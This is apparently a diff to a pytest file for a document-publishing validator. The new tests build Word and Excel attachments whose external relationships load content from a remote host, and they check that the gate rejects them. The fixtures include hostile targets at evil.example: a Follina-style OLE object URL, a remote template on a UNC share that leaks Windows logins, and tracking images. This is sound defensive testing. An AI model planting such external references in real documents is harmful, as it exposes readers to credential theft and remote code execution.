@@ -17,10 +17,18 @@ Found by this pass (before the fix → now):
    program) passed validate and were published; a 名单 so written was no table, so no list of people (indexed by
    search, never taken down). Now the one CSV reader (privacy.extract.csv_readings) reads it as Excel does, and by
    commas too (what a program without the line shows); `gongkai mask` masks Excel's cells and keeps the line.
+3. A Word or Excel attachment that loads something from another computer as it opens — a relationship with
+   TargetMode="External" to a template on a share (\\\\host\\share\\t.dotm: the reader's Windows login goes to
+   that host), an object on a web server (http://…/x.html!, the Follina attack), a picture (every reader counted): the
+   gate read its parts for words and published it; a PDF with a script it refused. Now GK610 names the part, the
+   address and what to do (privacy.fetched); a link the reader clicks and a path on the clerk's own disk
+   (file:///D:/模板/公文.dotx, which Word notes for a 公文 made from a template) are left alone.
 """
 
 from __future__ import annotations
 
+import io
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -213,3 +221,81 @@ def test_mask_keeps_excel_s_sep_line(gk, tmp_path):
     assert run.code == 0, run.out + run.err
     assert table.read_bytes().decode("utf-8") == ("sep=;\r\n姓名;身份证号;联系电话\r\n"
                                                    "陈*生;35*************236;138****1234\r\n")
+
+
+WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def relationships(*links: tuple[str, str]) -> str:
+    """A .rels part: one external relationship per (type, target)."""
+    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            + "".join(f'<Relationship Id="rId{n}" Type="{RELATIONSHIPS}/{kind}" Target="{target}" '
+                      'TargetMode="External"/>' for n, (kind, target) in enumerate(links, 1))
+            + "</Relationships>")
+
+
+def package(**parts: str | bytes) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def word(**parts: str | bytes) -> bytes:
+    """A Word document saying 通知正文, with *parts* (by their names in the package) besides."""
+    body = f"<w:document {WORD}><w:body><w:p><w:r><w:t>通知正文</w:t></w:r></w:p></w:body></w:document>"
+    return package(**{"[Content_Types].xml": TYPES, "word/document.xml": body, **parts})
+
+
+def attaching_file(cat: CatalogDir, name: str, data: bytes) -> None:
+    cat.item(POLICY_ITEM)
+    cat.record(NOTICE.replace("files/2026/banli.csv", f"files/2026/{name}"))
+    cat.write(f"files/2026/{name}", data)
+
+
+FETCHING = {
+    "template on a share": ("settings.xml.rels", "attachedTemplate", "\\\\evil.example\\share\\t.dotm", "模板"),
+    "Follina": ("document.xml.rels", "oleObject", "http://evil.example/x.html!", "嵌入对象"),
+    "counted picture": ("footer1.xml.rels", "image", "https://evil.example/t.png", "图片"),
+    "file: on a host": ("document.xml.rels", "image", "file://evil.example/share/t.png", "图片"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(FETCHING))
+def test_a_word_document_loading_from_another_computer_is_not_published(gk, cat, tmp_path, case):
+    rels, kind, target, what = FETCHING[case]
+    attaching_file(cat, "tongzhi.docx", word(**{f"word/_rels/{rels}": relationships((kind, target))}))
+    run = gk("validate", cat.root)
+    assert run.code == 1
+    assert gk6(run)[0].startswith(f"17:9 错误 GK610 附件「files/2026/tongzhi.docx」无法读取：文档的「word/_rels/{rels}」"
+                                  f"让 Word、Excel 打开文件时从文件以外的地址「{target}」载入{what}：")
+    built(gk, cat, tmp_path / "site")
+    assert not (tmp_path / "site/files/2026/tongzhi.docx").exists()
+
+
+def test_a_workbook_s_linked_picture_and_an_embedded_document_s_template_are_found(gk, cat):
+    book = package(**{"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>",
+                      "xl/drawings/_rels/drawing1.xml.rels": relationships(("image", "http://evil.example/p.png"))})
+    attaching_file(cat, "biao.xlsx", book)
+    run = gk("validate", cat.root)
+    assert run.code == 1 and "「xl/drawings/_rels/drawing1.xml.rels」" in run.out
+    assert "「http://evil.example/p.png」载入图片" in run.out
+    inner = word(**{"word/_rels/settings.xml.rels": relationships(("attachedTemplate", "//evil.example/t.dotm"))})
+    attaching_file(cat, "tongzhi.docx", word(**{"word/embeddings/Microsoft_Word_Document.docx": inner}))
+    run = gk("validate", cat.root)
+    assert run.code == 1 and "「//evil.example/t.dotm」载入模板" in run.out
+
+
+def test_a_clicked_link_and_the_clerk_s_own_template_are_published(gk, cat, tmp_path):
+    attaching_file(cat, "tongzhi.docx", word(**{
+        "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "file:///D:/模板/公文.dotx")),
+        "word/_rels/document.xml.rels": relationships(("hyperlink", "https://www.gov.cn/zhengce/"),
+                                                      ("image", "file:///C:/Users/hlx/Pictures/seal.png"))}))
+    run = gk("validate", cat.root)
+    assert run.code == 0, run.out
+    built(gk, cat, tmp_path / "site")
+    assert (tmp_path / "site/files/2026/tongzhi.docx").is_file()
